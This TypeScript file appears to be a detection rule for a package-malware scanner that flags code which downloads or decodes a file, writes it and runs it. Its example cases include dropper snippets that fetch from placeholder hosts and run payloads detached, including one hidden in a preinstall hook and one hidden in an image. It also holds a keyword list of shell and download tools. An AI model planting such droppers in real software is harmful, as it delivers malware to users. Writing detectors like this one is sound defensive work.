import { isOnCommand, isUnseen } from '../src/define/commands.js';
import { isNamesake } from '../src/define/namesake.js';
import { isPath, isStart, onlyAsks, type Path, pathOf } from '../src/define/paths.js';
import { checksSum } from '../src/define/sums.js';
import { defineRule, step, stepsOf } from '../src/define.js';
import type { AnyNode, Call, FileContext, Label } from '../src/types.js';
import { deedsOf, HARMFUL } from '../src/vocabulary/deeds.js';
import { languageOf, scriptDeeds } from '../src/vocabulary/scripts.js';
import { oddRelease, PROJECT_RELEASES } from '../src/vocabulary/services.js';

export default defineRule({
  meta: {
    summary: 'Writes a file it downloaded or decoded, and runs it',
    why: 'A dropper keeps its payload out of the package. Installers of platform binaries download too, and check what came with `--version`; they unpack archives from their own releases, so an archive that is unpacked and not started is not flagged.',
    behaviour: 'execution',
    // What it does is read like any other code.
    behaviours: { readable: 'obfuscation' },
    messages: {
      downloaded: 'Downloads a file with {source}, writes it as {path} and runs it',
      unseen: 'Downloads a file with {source}, writes it as {path} and runs it out of sight',
      stranger: 'Downloads a file from {address}, writes it as {path} and runs it',
      loaded: 'Downloads code with {source}, writes it as {path} and loads it',
      program: 'Decodes a program of the system ({source}), writes it as {path} and runs it',
      verified: 'Downloads a file with {source}, checks a sum, writes it as {path} and runs it',
      release: 'Downloads a release with {source}, writes it as {path} and runs it',
      tried: 'Downloads a file with {source}, writes it as {path} and asks it for its version',
      installed:
        'Downloads the program it is called after with {source}, writes it as {path} and asks it for its version',
      requested: 'Downloads a file with {source}, writes it as {path} and runs it, for a command of its user',
      decoded: 'Decodes a file ({source}), writes it as {path} and runs it',
      code: 'Decodes code ({source}), writes it as {path} and runs it',
      readable: 'Decodes code ({source}) that can be read, writes it as {path} and runs it',
      packed: 'Decodes a file that was encoded more than once, writes it as {path} and runs it',
      unpacked: 'Unpacks {source}, a file of its own, writes it as {path} and runs it out of sight',
      script: 'Writes a script as {path} that {says}, and runs it',
    },
    bits: {
      downloaded: 10,
      unseen: 13.5,
      loaded: 12,
      program: 12.5,
      stranger: 13.5,
      verified: 1.5,
      release: 5,
      tried: 3,
      installed: 1.5,
      requested: 3,
      decoded: 9,
      code: 11,
      readable: 11,
      packed: 13.5,
      unpacked: 13.5,
      script: 13.5,
    },
  },
  examples: {
    flags: [
      {
        title: 'a program is fetched into the temporary folder',
        code: `const https = require('https'), fs = require('fs'), { exec } = require('child_process');\nconst out = fs.createWriteStream('/tmp/update');\nhttps.get('https://stage.invalid/update', res => {\n  res.pipe(out);\n  out.on('finish', () => exec('/tmp/update'));\n});`,
      },
      {
        title: 'a script is written and handed to node',
        code: `const axios = require('axios'), fs = require('fs'), path = require('path'), cp = require('child_process');\naxios.get('https://stage.invalid/x.js').then(r => {\n  const file = path.join(__dirname, 'x.js');\n  fs.writeFileSync(file, r.data);\n  cp.exec('node ' + file);\n});`,
      },
      {
        title: 'a decoded script is',
        code: `const fs = require('fs'), cp = require('child_process');\nfs.writeFileSync('run.bat', Buffer.from(text, 'base64'));\ncp.spawn('cmd', ['/c', 'run.bat']);`,
      },
      {
        title: 'a program from a bare address is moved, then started',
        code: `const fs = require('fs'), cp = require('child_process');\nfetch('http://203.0.113.9/u').then(r => r.arrayBuffer()).then(b => {\n  fs.writeFileSync('u.tmp', Buffer.from(b));\n  fs.renameSync('u.tmp', 'update.exe');\n  cp.spawn('update.exe');\n});`,
      },
      {
        title: 'the shell fetches it, marks it and starts it, one after the other',
        code: `const cp = require('child_process');\ncp.execSync('curl -sL https://stage.invalid/u -o /tmp/u');\ncp.execSync('chmod 755 /tmp/u');\ncp.spawn('/tmp/u', { detached: true });`,
      },
      {
        title: 'what was fetched is loaded as a module',
        code: `const fs = require('fs'), file = require('path').join(__dirname, 'part.js');\nfetch('https://stage.invalid').then(r => r.text()).then(text => {\n  fs.writeFileSync(file, text);\n  require(file);\n});`,
      },
      {
        title: 'a batch file that downloads and runs is written and started',
        code: `const fs = require('fs'), { exec } = require('child_process');\nconst lines = '@echo off\\ncurl -o a.tmp https://stage.invalid/a\\nrename a.tmp a.dll\\nrundll32 a.dll,Run';\nfs.writeFile('a.bat', lines, () => exec('"a.bat"'));`,
      },
      {
        title: 'a driver is fetched and asked for its version',
        code: `const fs = require('fs'), cp = require('child_process'), file = __dirname + '/driver.exe';\nfetch('https://files.invalid/driver.exe').then(r => r.arrayBuffer()).then(bytes => {\n  fs.writeFileSync(file, Buffer.from(bytes));\n  cp.spawn(file, ['--version']);\n});`,
      },
      {
        title: 'what was fetched runs on by itself, without a word',
        code: `const fs = require('fs'), os = require('os'), path = require('path'), { spawn } = require('child_process');\n(async () => {\n  const file = path.join(os.tmpdir(), 'agent-' + os.arch());\n  const bytes = await (await fetch('https://stage.invalid/' + os.platform())).arrayBuffer();\n  fs.writeFileSync(file, Buffer.from(bytes), { mode: 0o755 });\n  spawn(file, [], { detached: true, stdio: 'ignore' }).unref();\n})();`,
      },
      {
        title: 'a part of a container that is no script is unpacked where nobody looks',
        files: {
          'package.json': '{"name":"swiftcut","version":"1.0.0","scripts":{"preinstall":"node dist/setup.js"}}',
          'dist/setup.js': `const fs = require('fs'), zlib = require('zlib'), os = require('os'), path = require('path'), cp = require('child_process');\nconst bytes = fs.readFileSync(path.join(__dirname, 'intro.js'));\nconst out = path.join(os.tmpdir(), '.' + process.pid);\nfs.writeFileSync(out, zlib.gunzipSync(bytes.subarray(bytes.readUInt32LE(8))), { mode: 0o755 });\ncp.spawn(out, [], { detached: true, stdio: 'ignore' }).unref();`,
        },
      },
      {
        title: 'a picture of the package holds a program',
        code: `import { readFile, writeFile, chmod } from 'node:fs/promises';\nimport { brotliDecompressSync } from 'node:zlib';\nimport { spawn } from 'node:child_process';\nconst found = await readFile(new URL('./assets/hero.webp', import.meta.url));\nconst program = '/var/tmp/.fontd';\nawait writeFile(program, brotliDecompressSync(found.subarray(4096)));\nawait chmod(program, 0o700);\nspawn(program, { detached: true, stdio: 'ignore' });`,
      },
    ],
    passes: [
      {
        title: 'an installer unpacks the program that it brings, and asks it for its version',
        files: {
          'package.json': '{"name":"swiftcut","version":"1.0.0","scripts":{"postinstall":"node install.js"}}',
          'install.js': `const fs = require('fs'), zlib = require('zlib'), path = require('path'), cp = require('child_process');\nconst out = path.join(__dirname, 'bin', 'swiftcut');\nfs.writeFileSync(out, zlib.gunzipSync(fs.readFileSync(path.join(__dirname, 'swiftcut.gz'))), { mode: 0o755 });\ncp.execFileSync(out, ['--version'], { stdio: 'inherit' });`,
        },
      },
      {
        title: 'a script that builds is written and started',
        code: `const fs = require('fs'), cp = require('child_process');\nfs.writeFileSync('run.sh', '#!/bin/sh\\nmake all\\n');\ncp.execSync('sh run.sh');`,
      },
      {
        title: 'data that was fetched is loaded',
        code: `const fs = require('fs');\nfetch('https://a.invalid').then(r => r.text()).then(text => {\n  fs.writeFileSync('data.json', text);\n  console.log(require('./data.json'));\n});`,
      },
      {
        title: 'an archive is fetched by the shell and unpacked',
        code: `const cp = require('child_process');\ncp.execSync('curl -sL https://releases.invalid/a.tgz -o /tmp/a.tgz');\ncp.execSync('tar xzf /tmp/a.tgz -C vendor');`,
      },
      {
        title: 'a download is only stored',
        code: `const fs = require('fs');\nrequire('https').get('https://a.invalid/x.zip', res => res.pipe(fs.createWriteStream('x.zip')));`,
      },
      {
        title: 'an archive is unpacked by a program of the system',
        code: `const fs = require('fs'), cp = require('child_process');\nfetch('https://releases.invalid/tool.tar.gz').then(r => r.arrayBuffer()).then(bytes => {\n  fs.writeFileSync('/tmp/tool.tar.gz', Buffer.from(bytes));\n  cp.spawnSync('tar', ['-xzf', '/tmp/tool.tar.gz']);\n});`,
      },
      {
        title: 'the name of the file is the last part of an address, and another file is loaded',
        code: `const fs = require('fs'), path = require('path'), helper = require('./lib/tool');\nfetch('https://releases.invalid/1/tool-1.tar.bz2').then(r => r.arrayBuffer()).then(bytes => {\n  fs.writeFileSync(path.join('tmp', 'tool', 'https://releases.invalid/1/tool-1.tar.bz2'.split('/').pop()), Buffer.from(bytes));\n  helper.done();\n});`,
      },
      {
        title: 'a folder that was fetched into is where another program is started',
        code: `const fs = require('fs'), cp = require('child_process'), folder = 'work/part';\nfetch('https://a.invalid').then(r => r.text()).then(text => fs.writeFileSync(folder, text));\ncp.spawnSync('git', ['status'], { cwd: folder, env: { PART: folder } });`,
      },
      {
        title: 'two functions call what they are given the same',
        code: `const fs = require('fs'), cp = require('child_process');\nexports.save = (file, url) => fetch(url).then(r => r.text()).then(text => fs.writeFileSync(file, text));\nexports.start = file => cp.spawn(file, []);`,
      },
      {
        title: 'something else is started',
        code: `const fs = require('fs'), cp = require('child_process');\nfetch('https://a.invalid').then(r => r.text()).then(t => fs.writeFileSync('data.json', t));\ncp.execSync('git status');`,
      },
    ],
  },
  file(context) {
    const runs = runsOf(context);
    if (runs.length === 0) return;
    // Whoever compares a digest of what came in had it published beforehand.
    const checks = checksSum(context);
    for (const { path, label, call, script, from } of drops(context)) {
      const starts = runs.filter(one => one.node !== call.node && isStart(context, one, path));
      const run = starts.find(one => !onlyAsks(context, one)) ?? starts[0];
      if (!run) continue;
      // Installers of programs for one system unpack what they bring, and wait for what they start.
      if (label?.kind === 'file' && !script && !isUnseen(context, run)) continue;
      const address =
        from === undefined ? (label?.kind === 'remote' ? releaseOf(context, label) : undefined) : oddRelease(from);
      context.report({
        messageId: script
          ? 'script'
          : label
            ? messageOf(context, { label, path, address, checks, run, data: call.args[1] })
            : address
              ? 'stranger'
              : checks
                ? 'verified'
                : PROJECT_RELEASES.test(from ?? '')
                  ? 'release'
                  : onlyAsks(context, run)
                    ? triedAs(context, path)
                    : 'downloaded',
        data: { source: label?.detail ?? call.name, path: path.shown, address: address ?? '', says: script ?? '' },
        chain: [
          ...(label ? stepsOf(label) : []),
          step('transform', `writes it with ${call.name}`, context.file, call.node),
          step('sink', `runs it with ${run.name}`, context.file, run.node),
        ],
      });
    }
  },
});

/** What was written, where from, and what runs it. */
interface Dropped {
  readonly label: Label;
  readonly path: Path;
  /** The odd address that it came from. */
  readonly address: string | undefined;
  /** Whether the file compares a digest. */
  readonly checks: boolean;
  readonly run: Call;
  readonly data: AnyNode | undefined;
}

function messageOf(context: FileContext, { label, path, address, checks, run, data }: Dropped): string {
  if (label.kind === 'file') return 'unpacked';
  if (label.kind !== 'remote' && isNative(context, label)) return 'program';
  if (label.kind !== 'remote' && isTwice(label)) return 'packed';
  if (label.kind !== 'remote')
    return !path.texts.some(text => SCRIPT.test(text)) ? 'decoded' : isKnown(context, data) ? 'readable' : 'code';
  if (checks) return 'verified';
  if (address) return 'stranger';
  if (isRelease(context, label)) return 'release';
  if (isUnseen(context, run)) return 'unseen';
  if (onlyAsks(context, run)) return triedAs(context, path);
  if (isOnCommand(context, run.node)) return 'requested';
  if (/^(?:require|Module\._load)$/.test(run.name)) return 'loaded';
  return 'downloaded';
}

/** Whether all of what is written is known: the text is a layer, and judged as one. */
function isKnown({ textsOf }: FileContext, data: AnyNode | undefined): boolean {
  const texts = data ? textsOf(data) : [];
  return texts.length > 0 && texts.every(text => !text.includes('…'));
}

/** Whether the program is the one that the package is called after: what it was installed for. */
function triedAs(context: FileContext, { texts }: Path): 'installed' | 'tried' {
  return texts.length > 0 && texts.every(text => isNamesake(context, text)) ? 'installed' : 'tried';
}

/** The beginnings of programs for the common systems, in base64 and hex. */
const PROGRAM = /^(?:TV[opqr][A-Q]|f0VMR|z\/rt\/|yv66vg|4d5a9000|7f454c46|cffaedfe)/i;

function isNative({ file, textsOf }: FileContext, { origin }: Label): boolean {
  const [encoded] = (origin.node as { arguments?: readonly AnyNode[] }).arguments ?? [];
  if (!encoded || origin.file !== file) return false;
  return textsOf(encoded).some(text => text.length > 100 && PROGRAM.test(text));
}

const SCRIPT = /\.(?:[cm]?js|bat|cmd|ps1|vbs|sh|py)$/i;

const PATH = /^(?:[./~]|[a-z]:)/i;

/** What starts a file: a process, the program that the system opens it with, or loading it as a module. */
function runsOf(context: FileContext): readonly Call[] {
  return [
    ...context.calls('process'),
    ...context.named(/^(?:open|opn|opener|electron\.shell\.(?:openPath|openItem))(?:\.default)?$/),
    ...context
      .calls('load')
      .filter(({ args: [name] }) => name && (name.type !== 'Literal' || PATH.test(String(name.value)))),
    ...context.named(/^(?:worker_threads\.)?Worker$/),
    // `process.dlopen(module, path)`
    ...context.named('process.dlopen').map(call => ({ ...call, args: call.args.slice(1, 2) })),
  ];
}

/** The odd address that a file was fetched from. */
function releaseOf(context: FileContext, { origin }: Label): string | undefined {
  if (origin.file !== context.file) return undefined;
  const args = (origin.node as { arguments?: readonly Call['node'][] }).arguments ?? [];
  return args
    .flatMap(arg => context.textsWithin(arg))
    .map(oddRelease)
    .find(Boolean);
}

function isRelease(context: FileContext, { origin }: Label): boolean {
  const addresses = context
    .calls('network')
    .filter(call => call.node === origin.node)
    .flatMap(({ args: [address] }) => (address ? context.textsWithin(address) : []));
  return addresses.length > 0 && addresses.every(text => PROJECT_RELEASES.test(text) || context.isOwnAddress(text));
}

interface Drop {
  readonly path: Path;
  /** Where what is written came from; undefined when it stands in the code. */
  readonly label: Label | undefined;
  readonly call: Call;
  /** The address that a shell fetched it from. */
  readonly from?: string;
  /** What a script that stands in the code does. */
  readonly script?: string;
}

/** Unpacking an archive hides nothing; writing out base64 or a cipher's text does. */
const isForeign = ({ kind, detail }: Label): boolean =>
  kind === 'remote' || kind === 'decrypted' || (kind === 'decoded' && !/^(?:gzip|zlib|brotli)$/.test(detail));

/** Words that at least one harmful deed takes, to spare reading every text that is written as a script. */
const PIECES =
  /curl|wget|powershell|pwsh|invoke-|\biwr\b|\birm\b|certutil|bitsadmin|mshta|rundll32|regsvr32|\/dev\/|\brm\s|\bdel\s|\brd\s|\bnc\b|socket|XMLHTTP|xmrig|stratum|authorized_keys|requests|urlopen|shutil|nslookup|format\s/i;

function drops(context: FileContext): readonly Drop[] {
  const found: Drop[] = [];
  const streams = context.calls('write').filter(({ name }) => name.endsWith('createWriteStream'));
  for (const call of context.calls('write')) {
    const [target, data] = call.args;
    if (!target || !data) continue;
    const label = strangest(context.labelsOf(data));
    const path = pathOf(context, target);
    const script = harmOf(context, data, path);
    if (label || script) found.push({ path, label, call, ...(script ? { script } : {}) });
  }
  // `response.pipe(stream)` and `stream.write(chunk)`.
  for (const call of context.named(/\.(?:pipe|write|pipeline)$|^stream\.(?:promises\.)?pipeline$/)) {
    const parts = [...call.args, ...(call.receiver ? [call.receiver] : [])];
    const label = strangest(parts.flatMap(part => context.labelsOf(part)));
    const written = parts.some(part => context.namesOf(part).some(name => name.includes('createWriteStream')));
    const stream =
      streams.length === 1 ? streams[0] : streams.find(one => parts.some(part => isStream(context, part, one)));
    if (label && written && stream?.args[0]) found.push({ path: pathOf(context, stream.args[0]), label, call: stream });
  }
  // `download(url, folder)` keeps the address's last part as the name.
  for (const call of context.named(/^(?:download|download\.default|node-wget|wget-improved\.download)$/)) {
    const [address, folder] = call.args;
    const names = (address ? context.textsOf(address) : []).map(baseOf).filter(name => name.length > 3);
    const [label] = context.labelsOf(call.node).filter(({ kind }) => kind === 'remote');
    if (label && folder)
      found.push({ path: { shown: names[0] ?? 'a file', texts: names, node: undefined }, label, call });
  }
  found.push(...fetchedByShell(context));
  return [...found, ...moved(context, found.slice(0, 100))];
}

/** Files that one command line fetches, for another one to start. */
function fetchedByShell(context: FileContext): readonly Drop[] {
  return context.calls('process').flatMap((call): readonly Drop[] => {
    const [line, words] = call.args;
    if (!line) return [];
    return context.commandsOf(line, words).flatMap(({ program, words: said }) => {
      if (!/^(?:curl|wget)$/.test(program)) return [];
      const at = said.findIndex(word => (program === 'curl' ? /^(?:-\w*o|--output)$/ : /^-\w*O$/).test(word));
      const path = at < 0 ? undefined : said[at + 1];
      const from = said.find(word => /^https?:\/\//i.test(word));
      if (
        path === undefined ||
        path.length < 4 ||
        from === undefined ||
        /\.(?:tar|t?gz|zip|xz|bz2|json|txt|html?)$/i.test(path)
      )
        return [];
      return [{ path: { shown: path, texts: [path], node: undefined }, label: undefined, call, from }];
    });
  });
}

/** The same files under the names they are moved or copied to. */
function moved(context: FileContext, found: readonly Drop[]): readonly Drop[] {
  const moves = context.named(
    /^(?:fs(?:\.promises)?\.(?:rename|copyFile|cp)|fs-extra\.(?:move|copy|rename|copyFile))(?:Sync)?$/,
  );
  return moves.slice(0, 100).flatMap((move): readonly Drop[] => {
    const [from, to] = move.args;
    const drop = from && to && found.find(({ path }) => isPath(context, from, path));
    return drop ? [{ ...drop, path: pathOf(context, to as Call['node']) }] : [];
  });
}

/** What a text that stands in the code would do as the script it is written to. */
function harmOf(context: FileContext, data: Call['node'], path: Path): string | undefined {
  const texts = context.textsOf(data).filter(text => text.length >= 20 && text.length < 50_000 && PIECES.test(text));
  if (texts.length === 0 || path.texts.some(text => /\.(?:[cm]?[jt]sx?|json|md|html?|ya?ml|txt)$/i.test(text)))
    return undefined;
  const languages = path.texts.map(text => languageOf(text, texts[0] as string)).filter(one => one !== undefined);
  const deeds =
    languages.length > 0
      ? texts.slice(0, 4).flatMap(text => scriptDeeds(text, languages[0] as string))
      : deedsOf(context.commandsOf(data));
  return deeds.find(({ deed }) => HARMFUL.has(deed))?.says;
}

function baseOf(path: string): string {
  return path.slice(Math.max(path.lastIndexOf('/'), path.lastIndexOf('\\')) + 1);
}

/** True for a stream where it is made, or the variable that it is put into. */
function isStream({ parentOf }: FileContext, node: AnyNode, { node: made }: Call): boolean {
  if (node === made) return true;
  const holder = parentOf(made);
  const name =
    holder?.type === 'VariableDeclarator'
      ? holder.id
      : holder?.type === 'AssignmentExpression'
        ? holder.left
        : undefined;
  return name?.type === 'Identifier' && node.type === 'Identifier' && name.name === node.name;
}

/** What came from another machine says more than how it was packed. */
function strangest(labels: readonly Label[]): Label | undefined {
  return (
    labels.find(({ kind }) => kind === 'remote') ??
    labels.find(label => isForeign(label) && isTwice(label)) ??
    labels.find(isForeign) ??
    labels.find(({ kind, through }) => kind === 'file' && through.some(({ says }) => says.startsWith('decodes ')))
  );
}

/** Packed in one code and that in another. */
function isTwice({ kind, through }: Label): boolean {
  return kind === 'decoded' && through.some(({ says }) => says.startsWith('decodes '));
}
